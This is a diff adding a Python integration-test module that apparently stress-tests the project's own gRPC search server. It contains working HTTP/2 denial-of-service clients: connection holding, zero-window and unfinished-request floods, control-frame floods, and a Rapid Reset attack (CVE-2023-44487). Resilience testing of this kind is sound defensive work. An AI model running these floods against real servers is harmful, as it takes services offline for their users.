@@ -1,0 +1,127 @@
+"""Clients that harm: `python -m tests.integration.hostile_client KIND ADDRESS` until it is killed.
+
+They run in a process of their own, so that they do not slow the caller down that a test measures.
+"""
+
+from __future__ import annotations
+
+import itertools
+import selectors
+import socket
+import sys
+import time
+from collections.abc import Callable, Iterator
+
+from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame
+
+from chaja.v1 import SearchRequest
+from tests.integration.raw_calls import greeting, headers, message, opened
+
+SEARCH = "/chaja.v1.SearchService/Search"
+IDLE_CONNECTIONS = 400
+UNFINISHED_REQUESTS = 100_000
+CHUNK = 200
+"""Calls that are written at a time."""
+
+
+def connect(address: str) -> socket.socket:
+    """Connects, without blocking later."""
+    host, port = address.split(":")
+    client = socket.create_connection((host, int(port)), timeout=10)
+    client.setblocking(False)
+    return client
+
+
+def flood(address: str, data: Callable[[], Iterator[bytes]], *, connections: int) -> None:
+    """Sends `data` on each connection, as fast as the server takes it; opens a new one for each that it closes."""
+    with selectors.DefaultSelector() as selector:
+        for _ in range(connections):
+            selector.register(connect(address), selectors.EVENT_READ | selectors.EVENT_WRITE, [b"", data()])
+        while True:
+            for key, events in selector.select():
+                client: socket.socket = key.fileobj  # type: ignore[assignment]
+                try:
+                    if events & selectors.EVENT_READ and not client.recv(1 << 20):
+                        raise ConnectionError
+                    if events & selectors.EVENT_WRITE:
+                        pending, more = key.data
+                        pending = pending or next(more, b"")
+                        key.data[0] = pending[client.send(pending) :] if pending else b""
+                        if not pending:
+                            selector.modify(client, selectors.EVENT_READ, key.data)
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    selector.unregister(client)
+                    client.close()
+                    time.sleep(0.01)
+                    new = connect(address)
+                    selector.register(new, selectors.EVENT_READ | selectors.EVENT_WRITE, [b"", data()])
+
+
+def idle_connections(address: str) -> None:
+    """Opens connections that say nothing, and holds them."""
+    held = []
+    for _ in range(IDLE_CONNECTIONS):
+        held.append(connect(address))
+        held[-1].setblocking(False)
+    time.sleep(3600)
+
+
+def zero_window(address: str) -> None:
+    """Searches, and opens no window for the answers."""
+    request = SearchRequest(query="송금").SerializeToString()
+
+    def data() -> Iterator[bytes]:
+        yield greeting({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
+        for stream in range(1, 20_000, 2):
+            yield headers(SEARCH, stream) + message(request, stream)
+
+    flood(address, data, connections=4)
+
+
+def unfinished_requests(address: str) -> None:
+    """Begins requests without a token whose messages never come."""
+
+    def data() -> Iterator[bytes]:
+        yield greeting()
+        for start in range(0, UNFINISHED_REQUESTS // 10, CHUNK):
+            yield b"".join(headers(SEARCH, 2 * number + 1) for number in range(start, start + CHUNK))
+
+    flood(address, data, connections=10)
+
+
+def rapid_reset(address: str) -> None:
+    """Begins searches and resets them at once (CVE-2023-44487)."""
+    request = SearchRequest(query="송금", limit=100).SerializeToString()
+
+    def data() -> Iterator[bytes]:
+        yield greeting()
+        for start in itertools.count(0, CHUNK):
+            streams = range(2 * start + 1, 2 * (start + CHUNK) + 1, 2)
+            yield b"".join(
+                headers(SEARCH, stream) + message(request, stream) + RstStreamFrame(stream, error_code=8).serialize()
+                for stream in streams
+            )
+
+    flood(address, data, connections=2)
+
+
+def control_frames(address: str) -> None:
+    """Sends PING, SETTINGS and WINDOW_UPDATE frames as fast as they are taken."""
+    frames = [PingFrame(0, b"12345678"), SettingsFrame(0), WindowUpdateFrame(1, window_increment=1)]
+    chunk = b"".join(frame.serialize() for frame in frames) * CHUNK
+
+    def data() -> Iterator[bytes]:
+        yield opened(SEARCH)
+        yield from itertools.repeat(chunk)
+
+    flood(address, data, connections=2)
+
+
+KINDS = {
+    each.__name__: each for each in (idle_connections, zero_window, unfinished_requests, rapid_reset, control_frames)
+}
+
+if __name__ == "__main__":
+    KINDS[sys.argv[1]](sys.argv[2])
